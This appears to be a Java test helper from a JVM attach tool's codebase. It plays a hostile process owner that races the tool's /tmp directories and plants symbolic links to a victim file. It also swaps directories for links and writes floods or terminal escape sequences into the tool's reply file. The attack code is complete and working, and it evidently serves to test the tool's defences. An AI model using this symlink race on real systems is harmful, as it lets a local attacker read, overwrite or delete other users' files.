/* SPDX-License-Identifier: Apache-2.0 */
package dev.wattle.agent.host.program;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;

/**
 * A JVM whose owner means harm to whoever attaches to it: it waits for the tool's directory and tries whatever its rights
 * allow to have the tool read, write, give away or remove a file that is not its own.
 *
 * <p>Its arguments are a victim, a file of the tool's user's, and what to do to the answer: {@code nothing}, {@code flood},
 * {@code escape}. It goes on until its input ends.
 */
public final class HostileOwner {
    private HostileOwner() {}

    public static void main(String[] arguments) throws IOException {
        Path victim = Path.of(arguments[0]);
        Thread attacker = new Thread(() -> {
            while (true) {
                attack(victim, arguments[1]);
            }
        });
        attacker.setDaemon(true);
        attacker.start();
        System.out.println("ready");
        while (System.in.read() >= 0) {
            // Waits for the end.
        }
    }

    private static void attack(Path victim, String answer) {
        File[] found = new File("/tmp").listFiles((parent, name) -> name.startsWith("wattle-"));
        if (found == null) {
            return;
        }
        for (File directory : found) {
            // Where the directory is to be had, a link where the tool is about to write or read.
            for (String name : new String[] {"arguments", "reply"}) {
                Path file = directory.toPath().resolve(name);
                if (!Files.isSymbolicLink(file)) {
                    attempt(() -> Files.deleteIfExists(file));
                    attempt(() -> Files.createSymbolicLink(file, victim));
                }
            }
            // Where it is not, another directory in its place, through which the tool would read or remove the victim.
            attempt(() -> {
                Files.move(directory.toPath(), Path.of(directory + ".away"));
                return Files.createSymbolicLink(directory.toPath(), victim.getParent());
            });
            attempt(() -> answer(directory.toPath().resolve("reply"), answer));
        }
    }

    private static Object answer(Path file, String answer) throws IOException {
        switch (answer) {
            case "flood":
                Files.writeString(file, "x".repeat(1 << 20), StandardOpenOption.APPEND);
                break;
            case "escape":
                Files.writeString(file, "done 0 16\n\u001b]0;owned\u0007\u001b[2J\u009b\n", StandardOpenOption.WRITE);
                break;
            default:
                break;
        }
        return file;
    }

    private static void attempt(Attempt attempt) {
        try {
            attempt.make();
        } catch (IOException | RuntimeException refused) {
            // The next one may succeed.
        }
    }

    /** Something that may be refused. */
    private interface Attempt {
        Object make() throws IOException;
    }
}
